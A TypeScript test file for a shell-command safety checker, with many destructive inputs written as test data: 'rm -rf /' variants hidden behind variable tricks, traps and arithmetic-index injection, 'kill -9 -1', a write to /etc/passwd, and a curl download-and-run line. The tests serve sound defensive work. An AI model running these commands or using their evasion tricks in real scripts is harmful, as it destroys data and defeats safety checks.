import { expect, test } from 'vitest'
import { matchAny } from './judge-reading.ts'
import { readShell } from './read-shell.ts'
import { compileRules } from './rule-book.ts'

const rules = compileRules(['rm -r {root}', '> {startup}', 'kill -9 -1'])

/** Whether a script is, or may be, what the rules say. */
function isSuspect(script: string): boolean {
  const reading = readShell(script)
  return (
    reading.unknown.length > 0 || matchAny(reading, rules).certainty !== 'no'
  )
}

test.each([
  [
    'a variable has the value that it was last given in this very shell',
    [
      "x=rm; bash -c 'x=ls'; $x -rf /",
      'x=rm; env declare x=ls; $x -rf /',
      "x=echo; sh -c '$x rm -rf /'",
      'a=r; export a+=m; $a -rf /',
      "a=ls; declare 'a[0]=rm'; $a -rf /",
      'y=1; ((y-=2)); kill -9 $y',
    ],
  ],
  [
    'what cannot be set keeps its value',
    [
      'readonly x=rm\nx=ls\n$x -rf /',
      '_=ls\n: rm\n$_ -rf /',
      'REPLY=ls; read <<< rm; $REPLY -rf /',
      'declare -l p=/ETC/PASSWD; echo x > $p',
      'declare -n r=c; c=rm; "$r" -rf /',
    ],
  ],
  [
    'a name of the script can stand for a builtin',
    [
      'export() { :; }; x=rm; export x=ls; $x -rf /',
      'cd() { :; }; cd /; cd /tmp/a; rm -rf *',
    ],
  ],
  [
    'what stands after a way out may not run',
    [
      'x=rm; f(){ return; x=ls; }; f; $x -rf /',
      'x=ls; f(){ x=rm; return; x=ls; }; f; $x -rf /',
      'x=rm; for i in 1; do break; x=ls; done; $x -rf /',
      'x=rm; if true; then :; elif x=ls; then :; fi; $x -rf /',
      'x=ls; true && x=rm && false && x=ls; $x -rf /',
    ],
  ],
  [
    'a loop is followed turn by turn, or until nothing changes',
    [
      'x=rm; for i in 1; do y=$x; x=ls; done; $y -rf /',
      'a=ls b=ls c=ls d=ls; while a; do $a -rf /; a=$b; b=$c; c=$d; d=rm; done',
    ],
  ],
  [
    'a trap runs at any time',
    [
      "x=ls; trap '$x -rf /' EXIT; x=rm; exit; x=ls",
      "trap 'x=rm' DEBUG; x=ls; $x -rf /",
    ],
  ],
  [
    'a cd can fail, and can have succeeded',
    ['cd /; cd /nonexistent; rm -rf *', 'true && cd /; rm -rf etc'],
  ],
  [
    'a file that the script has written is known when it is run',
    [
      "echo 'rm -rf /' > x.sh; bash x.sh",
      "echo 'rm -rf /' > x; mv x y; . ./y",
      'cat > a.py <<E\nimport shutil\nE\npython3 a.py',
      'curl -sSLo i.sh https://x/i.sh; sh i.sh',
    ],
  ],
  [
    'shells run what stands in an index wherever they compute',
    [
      "x='a[$(rm -rf /)]'; echo $((x))",
      "f(){ echo $(($1)); }; f 'a[$(rm -rf /)]'",
      "test -v 'x[$(rm -rf /)]'",
    ],
  ],
  [
    'a program that nobody knows may run its arguments',
    [
      'runner --fast rm -rf /',
      "runner --cmd='rm -rf /'",
      "A_HOOK='rm -rf /' runner",
    ],
  ],
  [
    'a text ends, and is printed, as shells do it',
    [
      'cat <<E\n\\\nE\nrm -rf /\nE',
      "printf '%s' 'echo \\x27; rm -rf / #\\x27' | sh",
    ],
  ],
])('%s', (_, scripts) => {
  expect(scripts.filter((script) => !isSuspect(script))).toEqual([])
})

test('what does the like and is harmless is read as such', () => {
  const scripts = [
    "x=ls; bash -c 'x=rm'; $x -la src",
    'cd packages && cd core && rm -rf dist',
    "echo 'echo hi' > hi.sh && bash hi.sh",
    'f(){ echo "$1"; return; }; f rm',
    "echo 'rm -rf /'; git commit -m 'no rm -rf / here'",
    'tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT; cp a "$tmp"',
    'i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done',
  ]
  expect(scripts.filter(isSuspect)).toEqual([])
})
